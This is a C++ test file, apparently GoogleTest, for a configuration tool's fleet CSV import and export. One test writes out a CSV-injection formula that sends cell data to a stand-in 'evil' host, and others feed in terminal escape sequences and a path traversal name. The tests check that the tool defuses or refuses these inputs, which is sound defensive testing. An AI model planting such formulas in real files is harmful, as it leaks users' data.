        runCli({"import", "-", "-d", dir.path().string(), "--force"}, csv);
        ::_exit(0);
    }
    ::close(ready[1]);
    char byte = 0;
    ASSERT_EQ(::read(ready[0], &byte, 1), 1);
    ::close(ready[0]);
    ::usleep(200000);  // waiting for t10.cfg by now
    ::kill(pid, SIGTERM);
    int status = 0;
    pid_t ended = 0;
    for (int waited = 0; waited < 500 && (ended = ::waitpid(pid, &status, WNOHANG)) == 0; ++waited)
        ::usleep(10000);
    if (ended == 0) {
        ::kill(pid, SIGKILL);
        ::waitpid(pid, &status, 0);
        FAIL() << "the import did not end while it waited for the lock";
    }
    EXPECT_TRUE(WIFSIGNALED(status) && WTERMSIG(status) == SIGTERM) << status;
    EXPECT_EQ(snapshot(dir), before);
}
#endif

TEST(Fleet, ImportFromTemplate) {
    TempDir dir;
    spit(dir / "tpl.cfg", "TSERV='10.0.0.2'\nUSERN='guest'\nKEYMAP='41D'\nVOLUME='x'\n");
    fs::create_directory(dir / "out");
    const Result r = runCli({"import", "-", "-d", dir / "out", "--template", dir / "tpl.cfg"},
                            "name,USERN,IP\nterm1,,10.0.0.5\nterm2,'',\n");
    EXPECT_EQ(r.code, 0);
    EXPECT_EQ(r.err, dir / "tpl.cfg" +
                         ": Внимание! Значение параметра VOLUME неверно! Сброшено на значение по "
                         "умолчанию\n");
    EXPECT_EQ(
        slurp(dir / "out/term1.cfg"),
        runCli({"normalize", "-"}, "TSERV='10.0.0.2'\nUSERN='guest'\nKEYMAP='41D'\nIP='10.0.0.5'")
            .out);
    EXPECT_EQ(slurp(dir / "out/term2.cfg"),
              runCli({"normalize", "-"}, "TSERV='10.0.0.2'\nUSERN=''\nKEYMAP='41D'").out);
}

TEST(Fleet, EveryRefusedImportLeavesTheFolderAsItWas) {
    TempDir dir;
    const std::string d = dir.path().string();
    spit(dir / "AA^BB^CC^DD^EE^01.cfg", "USERN='old'\r\n");
    spit(dir / "t9.cfg", "junk");
    spit(dir / "aa^bb^cc^dd^ee^07.cfg", "USERN='lower'\r\n");
    const auto before = snapshot(dir);
    const std::string good = "t1,u1\n";  // a row that alone would be written
    const std::vector<std::pair<std::string, std::string>> cases = {
        {"name,USRN\n" + good, "row 1, column 2 (USRN): 'USRN' is not a key"},
        {"name,X\n" + good,
         "row 1, column 2 (X): X is written from CHIPSET; set CHIPSET to a value ending in _x or "
         "holding fb"},
        {"name,USERN,USERN\nt1,a,b\n", "row 1, column 3 (USERN): the same key as column 2"},
        {"name,mac,USERN\nt1,aabbccddee01,u\n",
         "row 1, column 2 (mac): a second target column: exactly one of file, mac, name"},
        {"USERN,IP\nu,10.0.0.1\n", "row 1: no target column: one of file, mac, name is needed"},
        {"name,USERN\n" + good + "t2,it's\n",
         "row 3, column 2 (USERN): USERN cannot hold a single quote or a line break"},
        {"name,USERN\n" + good + "t2,\"two\nlines\"\n",
         "row 3, column 2 (USERN): USERN cannot hold a single quote or a line break"},
        {"name,AUTOSTART\nt1,on\nt2,yes\n",
         "row 3, column 2 (AUTOSTART): AUTOSTART takes on or off"},
        {"name,COLOR\nt1,24\nt2,12\n", "row 3, column 2 (COLOR): COLOR takes one of: 16 8 24 32"},
        {"name,USERN,IP\nt1,u,10.0.0.1\nt2,u,10.0..1\n",
         "row 3, column 3 (IP): IP: '10.0..1' is not an IPv4 address"},
        {"name,VOLUME\nt1,5\nt2,loud\n",
         "row 3, column 2 (VOLUME): VOLUME: 'loud' is not a whole number"},
        {"mac,USERN\naa:bb:cc:dd:ee:02,u\nAABBCCDDEE02,v\n",
         "row 3, column 1 (mac): AA^BB^CC^DD^EE^02.cfg is the target of row 2 too"},
#ifdef _WIN32  // names ignore case there: one file
        {"file,USERN\nAA^BB^CC^DD^EE^03.cfg,u\naa^bb^cc^dd^ee^03.cfg,v\n",
         "row 3, column 1 (file): aa^bb^cc^dd^ee^03.cfg is the target of row 2 too"},
#endif
        {"mac,USERN\naa:bb:cc:dd:ee,u\n",
         "row 2, column 1 (mac): 'aa:bb:cc:dd:ee' is not a MAC address"},
        {"mac,USERN\naabbccddee07,u\n",
         "row 2, column 1 (mac): the folder holds aa^bb^cc^dd^ee^07.cfg for the same MAC"},
        {"name,USERN\n" + good + ",u\n", "row 3, column 1 (name): no target: the cell is empty"},
        {"name,USERN\n" + good + "../t,u\n",
         "row 3, column 1 (name): '../t' is not a computer name"},
        {"name,USERN\ndefault,u\n",
         "row 2, column 1 (name): default.cfg is the common file; name it in a file column"},
        {"file,USERN\nt1.txt,u\n",
         "row 2, column 1 (file): 't1.txt' is not a file name ending in .cfg"},
        {"name,USERN\n" + good + "t2,u,extra\n", "row 3, column 3: a cell beyond the last column"},
        {"name,USERN\n" + good + "t2,\"open\n", "row 3: a quoted field is not closed"},
        {"file,USERN\nAA^BB^CC^DD^EE^01.cfg,new\n",
         "row 2, column 1 (file): AA^BB^CC^DD^EE^01.cfg exists and would change (--force replaces "
         "it)"},
        {"file,USERN\nt9.cfg,a\nt1.cfg,a\nt2.cfg,it's\n",
         "row 2, column 1 (file): t9.cfg exists and would change (--force replaces it); and 1 more "
         "refusal(s)"},
        {"", "no header row"},
    };
    for (const auto& [csv, message] : cases) {
        const Result r = runCli({"import", "-", "-d", d}, csv);
        EXPECT_EQ(r.code, 2) << csv;
        EXPECT_EQ(r.out, "") << csv;
        EXPECT_EQ(r.err, "orbcfg-cli: (stdin): " + message + "; nothing written\n") << csv;
        EXPECT_EQ(snapshot(dir), before) << csv;
    }
}

TEST(Fleet, FailedWriteOfAnImportPutsBackWhatItWrote) {
    TempDir dir;
    const std::string d = dir.path().string();
    spit(dir / "b.cfg", "USERN='old'\r\n");
    const auto before = snapshot(dir);
    const std::string csv = "name,USERN\na,1\nb,2\nc,3\nd,4\n";
    fleet::ImportOptions options;
    options.force = true;
    const auto read = [](const std::string& path, std::string&) {
        return std::optional<std::string>(slurp(path));
    };
    const fleet::ImportPlan plan = fleet::planImport(csv, d, read, options);
    ASSERT_TRUE(plan.refusals.empty());
    ASSERT_EQ(plan.targets.size(), 4u);
    // Called from several threads at once.
    const fleet::ReplaceFile failingOnC = [&](const std::string& path, std::string_view bytes,
                                              std::string& error) {
        if (path.ends_with("c.cfg")) {
            error = "No space left on device";
            return false;
        }
        spit(path, bytes);
        return true;
    };
    std::string error;
    EXPECT_FALSE(fleet::writeImport(plan, d, failingOnC, error));
    EXPECT_EQ(error, "cannot write c.cfg: No space left on device");
    EXPECT_EQ(snapshot(dir), before);
}

TEST(Fleet, ImportOfMoreRowsThanAreMadeAtATime) {
    // Rows enough for several batches; every USERN cell holds a doubled quote, so that its
    // value is the reader's own copy and not a view of the text.
    const int rows = 2200;
    std::string csv = "name,USERN,IP,AUTOSTART,COLOR\r\n";
    const auto config = [](int i) {
        std::string c = "USERN='a\"b" + std::to_string(i) + "'\nIP='10.1." +
                        std::to_string(i / 256) + "." + std::to_string(i % 256) + "'\n";
        if (i % 3 == 0) c += "AUTOSTART='on'\n";
        if (i % 5 == 0) c += "COLOR='24'\n";
        return c;
    };
    for (int i = 0; i < rows; ++i)
        csv += "t" + std::to_string(i) + ",\"a\"\"b" + std::to_string(i) + "\",10.1." +
               std::to_string(i / 256) + "." + std::to_string(i % 256) + "," +
               (i % 3 == 0 ? "on" : "") + "," + (i % 5 == 0 ? "24" : "") + "\r\n";
    TempDir empty;
    const auto read = [](const std::string& path, std::string&) {
        return std::optional<std::string>(slurp(path));
    };
    const fleet::ImportPlan plan = fleet::planImport(csv, empty.path().string(), read, {});
    ASSERT_TRUE(plan.refusals.empty());
    ASSERT_EQ(plan.targets.size(), static_cast<std::size_t>(rows));
    for (int i = 0; i < rows; ++i) {
        const fleet::Target& t = plan.targets[static_cast<std::size_t>(i)];
        EXPECT_EQ(t.file, "t" + std::to_string(i) + ".cfg");
        EXPECT_EQ(t.row, i + 2);
        if (i < 2 || (i > 2045 && i < 2050) || i == 7 || i == rows - 1) {
            EXPECT_EQ(t.bytes, runCli({"normalize", "-"}, config(i)).out) << "row " << i + 2;
        }
    }

    // A fault in the last row, or a text that stops being CSV there, refuses all of them.
    for (const auto& [tail, message] : std::vector<std::pair<std::string, std::string>>{
             {"t7,u,10.0.0.1,,\r\n",
              "row 2202, column 1 (name): t7.cfg is the target of row 9 too"},
             {"t9999,u,10.0.0.1,maybe,\r\n",
              "row 2202, column 4 (AUTOSTART): AUTOSTART takes on or off"},
             {"t9999,u,10.0..1,,\r\n",
              "row 2202, column 3 (IP): IP: '10.0..1' is not an IPv4 address"},
             {"t9999,\"u", "row 2202: a quoted field is not closed"}}) {
        const Result refused = runCli({"import", "-", "-d", empty.path().string()}, csv + tail);
        EXPECT_EQ(refused.code, 2);
        EXPECT_EQ(refused.err, "orbcfg-cli: (stdin): " + message + "; nothing written\n");
        EXPECT_EQ(empty.names(), std::vector<std::string>{});
    }
    // A refused header with a text that is no CSV further down: the text is what is refused.
    EXPECT_EQ(
        runCli({"import", "-", "-d", empty.path().string()}, "name,USRN\nt1,u\nt2,\"open\n").err,
        "orbcfg-cli: (stdin): row 3: a quoted field is not closed; nothing written\n");
}

TEST(Fleet, ADryRunPlanCannotBeWritten) {
    TempDir dir;
    const std::string d = dir.path().string();
    spit(dir / "b.cfg", "USERN='old'\r\n");
    fleet::ImportOptions options;
    options.force = true;
    options.keepBytes = false;
    const auto read = [](const std::string& path, std::string&) {
        return std::optional<std::string>(slurp(path));
    };
    const fleet::ImportPlan plan = fleet::planImport("name,USERN\na,1\nb,2\n", d, read, options);
    ASSERT_TRUE(plan.refusals.empty());
    ASSERT_EQ(plan.targets.size(), 2u);
    EXPECT_EQ(plan.targets[0].status, fleet::Status::New);
    EXPECT_EQ(plan.targets[1].status, fleet::Status::Changed);
    const auto before = snapshot(dir);
    std::string error;
    const fleet::ReplaceFile write = [](const std::string& path, std::string_view bytes,
                                        std::string&) {
        spit(path, bytes);
        return true;
    };
    EXPECT_FALSE(fleet::writeImport(plan, d, write, error));
    EXPECT_EQ(error, "the plan holds no bytes");
    fleet::WrittenInOrder done;
    EXPECT_FALSE(fleet::writeInOrder(
        plan, d,
        [](const std::string& path, std::string_view bytes, const std::optional<std::string>&,
           std::string&) {
            spit(path, bytes);
            return fleet::Replaced::Yes;
        },
        done, error));
    EXPECT_EQ(snapshot(dir), before);
}

TEST(Fleet, ImportRefusesANameTakenByAFolder) {
    TempDir dir;
    fs::create_directory(dir / "t2.cfg");
    const Result r = runCli({"import", "-", "-d", dir.path().string()}, "name,USERN\nt1,a\nt2,b\n");
    EXPECT_EQ(r.code, 2);
    EXPECT_EQ(r.err,
              "orbcfg-cli: (stdin): row 3, column 1 (name): t2.cfg exists and is no file; "
              "nothing written\n");
    EXPECT_FALSE(fs::exists(dir / "t1.cfg"));
}

TEST(Fleet, ExportThenImportGivesTheNormalizedFiles) {
    for (std::uint32_t seed = 1; seed <= 60; ++seed) {
        FleetGen gen(seed);
        TempDir from, to;
        const int count = 1 + gen.upTo(12);
        for (int i = 0; i < count; ++i) spit(from / gen.name(i), gen.file());
        // Either form, RFC 4180 and the semicolons of --excel (every other seed).
        const bool excel = seed % 2 == 0;
        std::vector<std::string> args{"export", from.path().string(), "-o", from / "fleet.csv.txt"};
        if (excel) args.push_back("--excel");
        const Result exported = runCli(args);
        ASSERT_EQ(exported.code, 0) << "seed " << seed << ": " << exported.err;
        EXPECT_EQ(slurp(from / "fleet.csv.txt").starts_with(kBom), excel);
        const Result imported =
            runCli({"import", from / "fleet.csv.txt", "-d", to.path().string()});
        ASSERT_EQ(imported.code, 0) << "seed " << seed << ": " << imported.err;
        std::vector<std::string> names = from.names();
        std::erase(names, "fleet.csv.txt");
        ASSERT_EQ(to.names(), names) << "seed " << seed;
        for (const std::string& n : names)
            EXPECT_EQ(slurp(to / n), normalizeConfig(slurp(from / n), [](Id) {}))
                << "seed " << seed << ", " << n;
    }
}

// The Excel form: the same cells, separated by semicolons after a byte-order mark; a cell
// holding a semicolon or a comma stands in quotes in either form.
TEST(Fleet, ExportForExcel) {
    TempDir dir;
    spit(dir / "a.cfg", "USERN='x;y'\r\nDOMAIN='d,e'\r\nCMD='=1'\r\n");
    spit(dir / "b.cfg", "USERN=''\r\n");
    const Result rfc = runCli({"export", dir.path().string()});
    const Result excel = runCli({"export", dir.path().string(), "--excel"});
    ASSERT_EQ(excel.code, 0) << excel.err;
    EXPECT_EQ(rfc.out, "file,USERN,DOMAIN,CMD\r\na.cfg,\"x;y\",\"d,e\",'=1\r\nb.cfg,'',,\r\n");
    EXPECT_EQ(
        excel.out,
        std::string(kBom) + "file;USERN;DOMAIN;CMD\r\na.cfg;\"x;y\";\"d,e\";'=1\r\nb.cfg;'';;\r\n");
    const Result help = runCli({"--help"});
    EXPECT_NE(help.out.find("export DIR [-o FILE.csv] [--excel]"), std::string::npos);
}

// Each refusal names its reason by a code and what it is about; the tool's words are made
// from them.
TEST(Fleet, RefusalsCarryTheirCodeAndWhatTheyName) {
    TempDir dir;
    spit(dir / "kassa.cfg", "USERN='u'\r\n");
    const auto read = [](const std::string& path, std::string&) {
        return std::optional<std::string>(slurp(path));
    };
    using C = fleet::RefusalCode;
    const auto plan = [&](std::string_view csv) {
        return fleet::planImport(csv, dir.path().string(), read, {});
    };
    const fleet::ImportPlan rows = plan(
        "file,IP,AUTOSTART,RAZR\nn.cfg,10.0.0.300,,\nn.cfg,,,\nx.txt,,,\nkassa.cfg,,,\n"
        "m.cfg,,yes,\nq.cfg,,,huge\n");
    ASSERT_EQ(rows.refusals.size(), 6u);
    const fleet::Refusal& bad = rows.refusals[0];
    EXPECT_EQ(bad.code, C::BadValue);
    EXPECT_EQ(bad.key, "IP");
    EXPECT_EQ(bad.value.fault, ValueFault::FailsCheck);
    EXPECT_EQ(bad.value.detail, "10.0.0.300");
    EXPECT_EQ(fleet::reasonText(bad), "IP: '10.0.0.300' is not an IPv4 address");
    const fleet::Refusal& same = rows.refusals[1];
    EXPECT_EQ(same.code, C::SameTarget);
    EXPECT_EQ(same.subject, "n.cfg");
    EXPECT_EQ(same.number, 2);
    EXPECT_EQ(fleet::reasonText(same), "n.cfg is the target of row 2 too");
    EXPECT_EQ(rows.refusals[2].code, C::NotCfgName);
    EXPECT_EQ(rows.refusals[2].subject, "x.txt");
    EXPECT_EQ(rows.refusals[3].code, C::WouldChange);
    EXPECT_TRUE(rows.refusals[3].needsForce);
    EXPECT_EQ(rows.refusals[4].value.fault, ValueFault::OnOff);
    EXPECT_EQ(fleet::reasonText(rows.refusals[4]), "AUTOSTART takes on or off");
    EXPECT_EQ(rows.refusals[5].value.fault, ValueFault::OneOf);
    EXPECT_TRUE(fleet::reasonText(rows.refusals[5]).starts_with("RAZR takes one of: "));

    const fleet::ImportPlan header = plan("file,IP,IP\n");
    ASSERT_EQ(header.refusals.size(), 1u);
    EXPECT_EQ(header.refusals[0].code, C::SameKey);
    EXPECT_EQ(header.refusals[0].number, 2);
    EXPECT_EQ(plan("file,X\n").refusals[0].value.fault, ValueFault::FromChipset);
    EXPECT_EQ(plan("file,Bogus\n").refusals[0].code, C::NotAKey);
    EXPECT_EQ(plan("IP\n").refusals[0].code, C::NoTargetColumn);
    EXPECT_EQ(plan("file\n\"a.cfg\n").refusals[0].code, C::UnclosedQuote);
    EXPECT_EQ(plan("file\n\"a.cfg\"x\n").refusals[0].code, C::TextAfterQuote);
    EXPECT_EQ(plan("").refusals[0].code, C::NoHeader);
    EXPECT_EQ(plan("mac\nzz\n").refusals[0].code, C::NotMac);
    EXPECT_EQ(plan("name\ndefault\n").refusals[0].code, C::CommonByName);
}

TEST(Fleet, SetRefusesWhatTheEditorWouldNotKeep) {
    TempDir dir;
    spit(dir / "a.cfg", "USERN='u'\r\n");
    const std::string a = dir / "a.cfg";
    const auto before = slurp(dir / "a.cfg");
    for (const auto& [change, message] : std::vector<std::pair<std::string, std::string>>{
             {"AUTOSTART=yes", "AUTOSTART takes on or off"},
             {"X=on",
              "X is written from CHIPSET; set CHIPSET to a value ending in _x or holding fb"},
             {"TSON=1", "TSON is not edited by the program"},
             {"USERN=it's", "USERN cannot hold a single quote or a line break"},
             {"IP=10.0..1", "IP: '10.0..1' is not an IPv4 address"},
             {"RAZR=1x1",
              "RAZR takes one of: 1024x768 640x480 720x540 800x600 848x480 960x720 "
              "1072x600 1152x864 1280x720 1280x1024 1360x768 1600x1200 1800x1012 "
              "1920x1080 1920x1440 2048x1152"},
         }) {
        const Result r = runCli({"set", a, change, "-o", a});
        EXPECT_EQ(r.code, 2) << change;
        EXPECT_EQ(r.err, "orbcfg-cli: " + message + "\n");
        EXPECT_EQ(slurp(dir / "a.cfg"), before);
    }
    EXPECT_EQ(runCli({"set", a, "-u", "TSON"}).err.substr(0, 35),
              "orbcfg-cli: unknown key 'TSON'\nTry ");
    // The value the review would reset is refused; one the file held already is only warned.
    spit(dir / "b.cfg", "IP='10.0..1'\r\n");
    Result r = runCli({"set", dir / "b.cfg", "CHIPSET=auto_x", "-u", "USERN"});
    EXPECT_EQ(r.code, 0);
    EXPECT_EQ(r.out, runCli({"normalize", "-"}, "CHIPSET='auto'\nX='on'\n").out);
    EXPECT_EQ(r.err, dir / "b.cfg" +
                         ": Внимание! Значение параметра IP неверно! Сброшено на значение по "
                         "умолчанию\n");
}

TEST(Fleet, LargeFleetIsReadAndWrittenByManyThreadsAlike) {
    TempDir from, to;
    FleetGen gen(2024);
    const int count = 700;
    for (int i = 0; i < count; ++i) {
        char name[32];
        std::snprintf(name, sizeof name, "t%04d.cfg", i);
        // Every tenth shares its address with the next file.
        spit(from / name, gen.file() + "IP='10.1." + std::to_string(i / 250) + "." +
                              std::to_string((i % 250) - (i % 10 == 1 ? 1 : 0)) + "'\r\n");
    }
    std::string error;
    const auto read = [](const std::string& path, std::string&) {
        return std::optional<std::string>(slurp(path));
    };
    const auto fleet = fleet::load(from.path().string(), read, {}, error);
    ASSERT_TRUE(fleet);
    ASSERT_EQ(fleet->records.size(), static_cast<std::size_t>(count));
    std::size_t duplicates = 0;
    for (std::size_t i = 0; i < fleet->records.size(); ++i) {
        EXPECT_EQ(fleet->records[i].file, from.names()[i]);
        EXPECT_EQ(fleet->records[i].findings.size(),
                  lintConfig(slurp(from / fleet->records[i].file)).size());
    }
    for (const fleet::Finding& f : fleet->findings) duplicates += f.code == "duplicate-ip";
    EXPECT_EQ(duplicates, 2u * 70);
    const Result exported = runCli({"export", from.path().string(), "-o", from / "all.csv.txt"});
    ASSERT_EQ(exported.code, 0);
    ASSERT_EQ(runCli({"import", from / "all.csv.txt", "-d", to.path().string()}).code, 0);
    std::vector<std::string> names = from.names();
    std::erase(names, "all.csv.txt");
    ASSERT_EQ(to.names(), names);
    for (const std::string& n : names)
        ASSERT_EQ(slurp(to / n), normalizeConfig(slurp(from / n), [](Id) {})) << n;
}

TEST(Fleet, BulkEditPlansEveryFileAndWritesOnlyWhatChanges) {
    TempDir dir;
    spit(dir / "a.cfg", "USERN='a'\r\nIP='10.0.0.1'\r\n");
    spit(dir / "b.cfg", runCli({"normalize", "-"}, "TSERV='10.0.0.9'\nUSERN='b'").out);
    const auto read = [](const std::string& path, std::string& error) {
        if (!fs::exists(path)) {
            error = "No such file or directory";
            return std::optional<std::string>();
        }
        return std::optional<std::string>(slurp(path));
    };
    const std::vector<Change> changes = {{idOf("TSERV"), "10.0.0.9"}, {idOf("IP"), std::nullopt}};
    const std::vector<std::string> files = {"a.cfg", "b.cfg"};
    fleet::ImportPlan plan = fleet::planEdit(dir.path().string(), files, changes, read);
    ASSERT_TRUE(plan.refusals.empty());
    ASSERT_EQ(plan.targets.size(), 2u);
    EXPECT_EQ(plan.targets[0].status, fleet::Status::Changed);
    EXPECT_EQ(plan.targets[1].status, fleet::Status::Same);
    EXPECT_EQ(plan.targets[0].bytes, runCli({"normalize", "-"}, "USERN='a'\nTSERV='10.0.0.9'").out);
    const auto before = snapshot(dir);
    std::string error;
    int writes = 0;
    ASSERT_TRUE(fleet::writeImport(
        plan, dir.path().string(),
        [&](const std::string& path, std::string_view bytes, std::string&) {
            ++writes;  // one target: no other thread
            spit(path, bytes);
            return true;
        },
        error));
    EXPECT_EQ(writes, 1);
    EXPECT_EQ(slurp(dir / "a.cfg"), plan.targets[0].bytes);
    EXPECT_EQ(slurp(dir / "b.cfg"), before.at("b.cfg"));

    // A value the review would reset, or a file that is missing: refused, by place.
    plan = fleet::planEdit(dir.path().string(), std::vector<std::string>{"a.cfg", "c.cfg"},
                           std::vector<Change>{{idOf("IP"), "10.0..1"}}, read);
    ASSERT_EQ(plan.refusals.size(), 2u);
    EXPECT_EQ(plan.refusals[0].row, 1);
    EXPECT_EQ(reasonText(plan.refusals[0]), "a.cfg: IP: '10.0..1' is not an IPv4 address");
    EXPECT_EQ(reasonText(plan.refusals[1]), "cannot read c.cfg: No such file or directory");
    EXPECT_FALSE(fleet::writeImport(plan, dir.path().string(), nullptr, error));
}

TEST(Fleet, EveryCommandDocumentsItselfInHelp) {
    for (const char* command : {"lint", "which", "diff", "export", "import"}) {
        const Result r = runCli({command, "--help"});
        EXPECT_EQ(r.code, 0) << command;
        EXPECT_NE(r.out.find(std::string("  ") + command + " "), std::string::npos) << command;
    }
    // After "--" it is an operand.
    EXPECT_EQ(runCli({"diff", "--", "--help", "x"}).code, 2);
    EXPECT_EQ(runCli({"--"}).code, 2);
}

// The window reads one changed file again, and writes a bulk edit one file after another.
TEST(Fleet, OneRecordAndWritesInOrder) {
    TempDir dir;
    copyFleet(dir);
    const auto read = [](const std::string& path, std::string& error) {
        if (!fs::exists(path)) {
            error = "gone";
            return std::optional<std::string>();
        }
        return std::optional<std::string>(slurp(path));
    };
    fleet::Options options;
    options.settings = true;
    std::string error;
    const auto whole = fleet::load(dir.path().string(), read, options, error);
    ASSERT_TRUE(whole);
    // Each record alone is the record of the whole load, findings of its own included.
    for (const fleet::Record& r : whole->records) {
        const fleet::Record one = fleet::loadRecord(dir.path().string(), r.file, read, options);
        EXPECT_EQ(one.settings, r.settings) << r.file;
        EXPECT_EQ(one.findings.size(), r.findings.size()) << r.file;
        EXPECT_EQ(one.ip, r.ip) << r.file;
        EXPECT_EQ(one.mname, r.mname) << r.file;
    }
    EXPECT_EQ(fleet::loadRecord(dir.path().string(), "none.cfg", read, options).error, "gone");
    const fleet::Record kassa = fleet::loadRecord(dir.path().string(), "kassa.cfg", read, options);
    ASSERT_NE(fleet::valueOf(kassa.settings, idOf("MNAME")), nullptr);
    EXPECT_EQ(*fleet::valueOf(kassa.settings, idOf("MNAME")), "kassa");
    EXPECT_EQ(fleet::valueOf(kassa.settings, idOf("WKEY")), nullptr);

    // Three files to change, the second cannot be written: the first stays written, the third
    // is not tried, and the error names the second.
    const std::vector<std::string> files{"kassa.cfg", "term03.cfg", "term06.cfg"};
    const fleet::ImportPlan plan = fleet::planEdit(
        dir.path().string(), files, std::vector<Change>{{idOf("USERN"), "bulk"}}, read);
    ASSERT_TRUE(plan.refusals.empty());
    const auto before = snapshot(dir);
    std::vector<std::string> tried;
    const auto replace = [&](const std::string& path, std::string_view bytes,
                             const std::optional<std::string>& old, std::string& why) {
        tried.push_back(std::filesystem::path(path).filename().string());
        EXPECT_TRUE(old.has_value());  // every file of an edit exists
        if (path.ends_with("term03.cfg")) {
            why = "No space left on device";
            return fleet::Replaced::Failed;
        }
        spit(path, bytes);
        return fleet::Replaced::Yes;
    };
    fleet::WrittenInOrder done;
    EXPECT_FALSE(fleet::writeInOrder(plan, dir.path().string(), replace, done, error));
    EXPECT_EQ(error, "cannot write term03.cfg: No space left on device");
    EXPECT_EQ(done.written, std::vector<std::string>{"kassa.cfg"});
    EXPECT_EQ(tried, (std::vector<std::string>{"kassa.cfg", "term03.cfg"}));
    EXPECT_EQ(slurp(dir / "kassa.cfg"), plan.targets[0].bytes);
    EXPECT_EQ(slurp(dir / "term06.cfg"), before.at("term06.cfg"));
    // A file no longer as the plan saw it is skipped and named; the others go on.
    tried.clear();
    spit(dir / "kassa.cfg", before.at("kassa.cfg"));
    const auto guarded = [&](const std::string& path, std::string_view bytes,
                             const std::optional<std::string>& old, std::string&) {
        tried.push_back(std::filesystem::path(path).filename().string());
        if (slurp(path) != *old) return fleet::Replaced::NotAsPlanned;
        spit(path, bytes);
        return fleet::Replaced::Yes;
    };
    spit(dir / "term03.cfg", "USERN='theirs'\r\n");
    EXPECT_TRUE(fleet::writeInOrder(plan, dir.path().string(), guarded, done, error));
    EXPECT_EQ(done.written, (std::vector<std::string>{"kassa.cfg", "term06.cfg"}));
    EXPECT_EQ(done.skipped, std::vector<std::string>{"term03.cfg"});
    EXPECT_EQ(slurp(dir / "term03.cfg"), "USERN='theirs'\r\n");
    // A plan with refusals writes nothing.
    fleet::ImportPlan refused = plan;
    refused.refusals.emplace_back().row = 1;
    tried.clear();
    EXPECT_FALSE(fleet::writeInOrder(refused, dir.path().string(), replace, done, error));
    EXPECT_TRUE(tried.empty());
}

TEST(Fleet, ExportMarksFormulasAsTextAndImportTakesThemBack) {
    TempDir from, to;
    const std::string formula = "=HYPERLINK(\"http://evil/?\"&C2,\"x\")";
    spit(from / "=cmd.cfg", "USERN='" + formula + "'\r\nPASSW='-secret'\r\nDOMAIN=''\r\n");
    spit(from / "'q.cfg", "USERN='@me'\r\nDOMAIN='+d'\r\n");
    const Result r = runCli({"export", from.path().string()});
    ASSERT_EQ(r.code, 0) << r.err;
    EXPECT_EQ(r.out,
              "file,USERN,PASSW,DOMAIN\r\n"
              "''q.cfg,'@me,,'+d\r\n"
              "'=cmd.cfg,\"'=HYPERLINK(\"\"http://evil/?\"\"&C2,\"\"x\"\")\",'-secret,''\r\n");
    spit(from / "fleet.csv.txt", r.out);
    ASSERT_EQ(runCli({"import", from / "fleet.csv.txt", "-d", to.path().string()}).code, 0);
    EXPECT_EQ(to.names(), (std::vector<std::string>{"'q.cfg", "=cmd.cfg"}));
    for (const std::string n : {"'q.cfg", "=cmd.cfg"})
        EXPECT_EQ(slurp(to / n), normalizeConfig(slurp(from / n), [](Id) {})) << n;
    // What an older export holds, with no marks: the same values.
    TempDir old;
    const Result o =
        runCli({"import", "-", "-d", old.path().string()}, "name,USERN,DOMAIN\r\nt,=1+2,''\r\n");
    ASSERT_EQ(o.code, 0) << o.err;
    EXPECT_EQ(slurp(old / "t.cfg"), runCli({"normalize", "-"}, "USERN='=1+2'\nDOMAIN=''\n").out);
    // The mark on a name or a MAC address, as a spreadsheet user types it.
    TempDir typed;
    const std::string t = typed.path().string();
    ASSERT_EQ(runCli({"import", "-", "-d", t}, "name,USERN\n'=x,u\n").code, 0);
    ASSERT_EQ(runCli({"import", "-", "-d", t}, "mac,USERN\n'aa:bb:cc:dd:ee:ff,u\n").code, 0);
    EXPECT_EQ(typed.names(), (std::vector<std::string>{"=x.cfg", "AA^BB^CC^DD^EE^FF.cfg"}));
}

TEST(Fleet, ImportOfACrOnlyCsv) {
    TempDir dir;
    const Result r = runCli({"import", "-", "-d", dir.path().string()}, "USERN,name\ra,t1\rb,t2\r");
    ASSERT_EQ(r.code, 0) << r.err;
    EXPECT_EQ(dir.names(), (std::vector<std::string>{"t1.cfg", "t2.cfg"}));
    EXPECT_EQ(slurp(dir / "t2.cfg"), runCli({"normalize", "-"}, "USERN='b'\n").out);
}

TEST(Fleet, ImportRefusesControlCharactersAndEscapesThemInMessages) {
    TempDir dir;
    const std::string d = dir.path().string();
    const std::vector<std::pair<std::string, std::string>> cases = {
        {"name,USERN\n\"a\nb\",u\n", "row 2, column 1 (name): 'a\\nb' is not a computer name"},
        {"name,USERN\na\x1b[2Jb,u\n",
         "row 2, column 1 (name): 'a\\x1B[2Jb' is not a computer name"},
        {"file,USERN\n\"x\ty.cfg\",u\n",
         "row 2, column 1 (file): 'x\\ty.cfg' is not a file name ending in .cfg"},
        {std::string("name,USERN\nt,a\0b\n", 17),
         "row 2, column 2 (USERN): USERN cannot hold a control character (\\x00)"},
        {"name,DOMAIN\nt,\x1b]0;x\x07\n",
         "row 2, column 2 (DOMAIN): DOMAIN cannot hold a control character (\\x1B)"},
        {"name,\"US\nERN\"\n", "row 1, column 2 (US\\nERN): 'US\\nERN' is not a key"},
        {"mac,USERN\n\"aa:bb\r\n\",u\n",
         "row 2, column 1 (mac): 'aa:bb\\r\\n' is not a MAC address"},
    };
    for (const auto& [csv, message] : cases) {
        const Result r = runCli({"import", "-", "-d", d}, csv);
        EXPECT_EQ(r.code, 2) << csv;
        EXPECT_EQ(r.err, "orbcfg-cli: (stdin): " + message + "; nothing written\n") << csv;
        EXPECT_TRUE(dir.names().empty()) << csv;
    }
    // A TAB inside a value is kept, as reading keeps it.
    ASSERT_EQ(runCli({"import", "-", "-d", d}, "name,USERN\nt,a\tb\n").code, 0);
    EXPECT_EQ(slurp(dir / "t.cfg"), runCli({"normalize", "-"}, "USERN='a\tb'\n").out);
    // set refuses the same, and says so on one line.
    const Result r = runCli({"set", dir / "t.cfg", "USERN=x\x1b[1m", "-i"});
    EXPECT_EQ(r.code, 2);
    EXPECT_EQ(r.err, "orbcfg-cli: USERN cannot hold a control character (\\x1B)\n");
    EXPECT_EQ(runCli({"set", dir / "t.cfg", "USE\nRN=x"}).err.substr(0, 37),
              "orbcfg-cli: unknown key 'USE\\nRN'\nTry");
}

TEST(Fleet, ImportKeepsTheFirstRefusalsAndCountsTheRest) {
    TempDir dir;
    const std::string d = dir.path().string();
    // Odd rows refused as they are read, even rows when their files are made (they exist and
    // would change): the first kept are the first by row all the same.
    std::string csv = "name,AUTOSTART\n";
    for (int i = 0; i < 3000; ++i) {
        if (i % 2 == 0) {
            csv += "t" + std::to_string(i) + ",yes\n";
        } else {
            spit(dir / ("t" + std::to_string(i) + ".cfg"), "USERN='u'\r\n");
            csv += "t" + std::to_string(i) + ",on\n";
        }
    }
